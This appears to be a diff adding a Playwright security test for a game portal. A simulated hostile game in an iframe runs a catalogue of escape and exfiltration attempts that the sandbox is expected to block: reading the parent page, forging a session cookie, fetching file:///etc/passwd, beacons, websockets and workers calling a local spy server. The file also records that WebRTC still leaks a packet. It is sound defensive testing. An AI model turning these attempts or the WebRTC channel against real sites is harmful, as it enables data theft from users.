@@ -1,0 +1,240 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Frame } from '@playwright/test';
+import { testBrowser } from '../scripts/test-browser.ts';
+import { expect, freePort, startPortal, test } from './fixtures.ts';
+
+/** Each game has a host of its own here, as in a deployment. */
+const ARGS = ['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE *.localhost, EXCLUDE 127.0.0.1'];
+
+test.use({
+  launchOptions: { ...testBrowser(), args: ARGS },
+  serviceWorkers: 'allow',
+  // Whatever is refused says so.
+  expectedErrors: [/./],
+});
+
+let stop = async () => {};
+let dataDir = '';
+let portal = '';
+let play = (_slug: string) => '';
+test.beforeAll(async () => {
+  const [port, playPort] = [await freePort(), await freePort()];
+  portal = `http://localhost:${port}`;
+  play = (slug) => `http://${slug}.localhost:${playPort}`;
+  dataDir = await mkdtemp(join(tmpdir(), 'playport-hostile-'));
+  stop = await startPortal({
+    PORT: `${port}`,
+    PLAY_PORT: `${playPort}`,
+    PLAY_ORIGIN: play('{game}'),
+    DATA_DIR: dataDir,
+    LOG_LEVEL: 'error',
+    UPLOADED_GAMES: 'on',
+  });
+});
+test.afterAll(async () => {
+  await stop();
+  await rm(dataDir, { recursive: true, force: true });
+});
+
+/** Another site, which notes whatever reaches it. */
+async function startSpy() {
+  const seen: string[] = [];
+  const http = createServer((request, response) => {
+    seen.push(`request of ${request.url}`);
+    response.end();
+  }).on('connection', () => seen.push('connection'));
+  const udp = createSocket('udp4');
+  const datagram = once(udp, 'message');
+  const port = await freePort();
+  http.listen(port, '127.0.0.1');
+  udp.bind(port, '127.0.0.1');
+  await Promise.all([once(http, 'listening'), once(udp, 'listening')]);
+  const close = () => {
+    http.closeAllConnections();
+    http.close();
+    udp.close();
+  };
+  return { seen, datagram, host: `127.0.0.1:${port}`, close };
+}
+
+interface Aims {
+  /** The host of a site that is told something. */
+  readonly spy: string;
+  readonly portal: string;
+  /** The origin of another game. */
+  readonly other: string;
+}
+
+/** Tries everything in the game's frame; returns what came of each attempt, or the name of its error. */
+const attack = (frame: Frame, aims: Aims) =>
+  frame.evaluate(async ({ spy, portal: own, other }) => {
+    const site = `http://${spy}`;
+    const results: Record<string, string> = {};
+    const attempt = async (name: string, work: () => unknown) => {
+      results[name] = await Promise.resolve()
+        .then(work)
+        .then(String, (error) => (error instanceof Error ? error.name : String(error)));
+    };
+    const add = (tag: string, attributes: Readonly<Record<string, string>>) => {
+      const element = document.createElement(tag);
+      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+      document.body.append(element);
+      return element;
+    };
+    const load = (tag: string, attributes: Readonly<Record<string, string>>) =>
+      new Promise((done) => {
+        const element = add(tag, attributes);
+        element.addEventListener('load', () => done('loaded'));
+        element.addEventListener('error', () => done('refused'));
+      });
+    const blocked = (work: () => unknown) =>
+      new Promise((done) => {
+        const told = ({ effectiveDirective }: SecurityPolicyViolationEvent) => done(effectiveDirective);
+        document.addEventListener('securitypolicyviolation', told, { once: true });
+        work();
+      });
+    const refused = (target: EventTarget) =>
+      new Promise((done) => {
+        target.addEventListener('error', () => done('refused'));
+      });
+    const said = (worker: Worker) =>
+      new Promise((done) => {
+        worker.addEventListener('message', ({ data }) => done(data));
+        worker.postMessage(`${site}/from-worker`);
+      });
+
+    // These say nothing when they fail, so they come first.
+    add('link', { rel: 'preconnect', href: site });
+    add('link', { rel: 'dns-prefetch', href: site });
+    const rules = { prefetch: [{ source: 'list', urls: [`${site}/speculation`], eagerness: 'immediate' }] };
+    add('script', { type: 'speculationrules' }).textContent = JSON.stringify(rules);
+
+    await attempt('the page around it', () => parent.document.title);
+    await attempt('the storage of the portal', () => parent.localStorage.length);
+    await attempt('the storage of another game', () => localStorage.getItem('of keys'));
+    await attempt('a read of the API', () => fetch(`${own}/api/me`, { credentials: 'include' }));
+    await attempt('a write to the API', () =>
+      fetch(`${own}/api/contact`, { method: 'POST', mode: 'no-cors', credentials: 'include' }),
+    );
+    await attempt('a cookie for the portal', () => {
+      document.cookie = 'playport_session=stolen; domain=localhost; path=/';
+      return document.cookie;
+    });
+    await attempt('another game', () => fetch(`${other}/v1/`, { mode: 'no-cors' }));
+    await attempt('fetch', () => fetch(site, { mode: 'no-cors' }));
+    await attempt('beacon', () => blocked(() => navigator.sendBeacon(`${site}/beacon`)));
+    await attempt('WebSocket', () => refused(new WebSocket(`ws://${spy}/`)));
+    await attempt('EventSource', () => refused(new EventSource(`${site}/events`)));
+    await attempt('image', () => load('img', { src: `${site}/image` }));
+    await attempt('script', () => load('script', { src: `${site}/script` }));
+    await attempt('style', () => load('link', { rel: 'stylesheet', href: `${site}/style` }));
+    await attempt('video', () => load('video', { src: `${site}/video` }));
+    await attempt('prefetch', () => load('link', { rel: 'prefetch', href: `${site}/prefetch` }));
+    await attempt('frame', () => blocked(() => add('iframe', { src: `${site}/frame` })));
+    await attempt('frame of another game', () => blocked(() => add('iframe', { src: `${other}/v1/` })));
+    await attempt('file', () => fetch('file:///etc/passwd'));
+    await attempt('file as an image', () => load('img', { src: 'file:///etc/hostname' }));
+    await attempt('worker of another site', () => new Worker(`${site}/worker.js`));
+    await attempt('worker of its own that calls', () => said(new Worker('worker.js')));
+    await attempt('worker of a blob that calls', async () => {
+      const source = await (await fetch('worker.js')).blob();
+      return said(new Worker(URL.createObjectURL(source)));
+    });
+    await attempt('service worker', () => navigator.serviceWorker.register('worker.js'));
+    await attempt('service worker of the origin', () =>
+      navigator.serviceWorker.register('worker.js', { scope: '/' }),
+    );
+    await attempt('window', () => window.open(`${site}/window`));
+    await attempt('position', () => {
+      const { geolocation } = navigator;
+      return new Promise((_, failed) => {
+        geolocation.getCurrentPosition(
+          () => {},
+          ({ code, PERMISSION_DENIED }) => failed(code === PERMISSION_DENIED ? 'denied' : 'other'),
+        );
+      });
+    });
+    await attempt('top navigation', () => {
+      if (top !== null) top.location.href = `${site}/top`;
+    });
+    add('a', { href: `${site}/link`, target: '_blank' }).click();
+    add('a', { href: 'worker.js', download: 'game.exe' }).click();
+    const form = document.createElement('form');
+    Object.assign(form, { action: `${site}/form`, method: 'post' });
+    document.body.append(form);
+    form.submit();
+    return results;
+  }, aims);
+
+test('a hostile game reaches neither the portal nor anybody else', async ({ page, context }) => {
+  const spy = await startSpy();
+  const downloads: unknown[] = [];
+  page.on('download', (download) => downloads.push(download));
+  await page.goto(`${portal}/games/keys`);
+  const keys = page.locator('iframe[title="Keys"]').contentFrame();
+  await keys.locator('body').evaluate(() => localStorage.setItem('of keys', 'secret'));
+
+  await page.goto(`${portal}/games/hostile`);
+  await expect(page.getByText('Secure', { exact: true })).toBeVisible();
+  const frame = page.frame({ url: `${play('hostile')}/v1/` });
+  if (frame === null) throw new Error('The game is not framed.');
+  expect(await attack(frame, { spy: spy.host, portal, other: play('keys') })).toEqual({
+    'the page around it': 'SecurityError',
+    'the storage of the portal': 'SecurityError',
+    'the storage of another game': 'null',
+    'a read of the API': 'TypeError',
+    'a write to the API': 'TypeError',
+    'a cookie for the portal': '',
+    'another game': 'TypeError',
+    fetch: 'TypeError',
+    beacon: 'connect-src',
+    WebSocket: 'refused',
+    EventSource: 'refused',
+    image: 'refused',
+    script: 'refused',
+    style: 'refused',
+    video: 'refused',
+    prefetch: 'refused',
+    frame: 'frame-src',
+    'frame of another game': 'frame-src',
+    file: 'TypeError',
+    'file as an image': 'refused',
+    'worker of another site': 'SecurityError',
+    'worker of its own that calls': 'refused',
+    'worker of a blob that calls': 'refused',
+    'service worker': 'TypeError',
+    'service worker of the origin': 'TypeError',
+    window: 'null',
+    position: 'denied',
+    'top navigation': 'SecurityError',
+  });
+  expect(page.url()).toBe(`${portal}/games/hostile`);
+  expect(context.pages()).toHaveLength(1);
+
+  // It leaves its frame: the page around it blocks that.
+  await frame.evaluate((site) => location.assign(site), `http://${spy.host}/left`);
+  await expect(page.getByText('Origin not in security allowlist')).toBeVisible();
+  expect(downloads).toEqual([]);
+  await fetch(`http://${spy.host}/control`);
+  expect(spy.seen).toEqual(['connection', 'request of /control']);
+  spy.close();
+});
+
+test('WebRTC is what no policy of this browser stops: a packet leaves', async ({ page }) => {
+  const spy = await startSpy();
+  await page.goto(`${portal}/games/hostile`);
+  await expect(page.getByText('Secure', { exact: true })).toBeVisible();
+  const frame = page.frame({ url: `${play('hostile')}/v1/` });
+  await frame?.evaluate(async (host) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
+    peer.createDataChannel('out');
+    await peer.setLocalDescription();
+  }, spy.host);
+  await spy.datagram;
+  spy.close();
+});
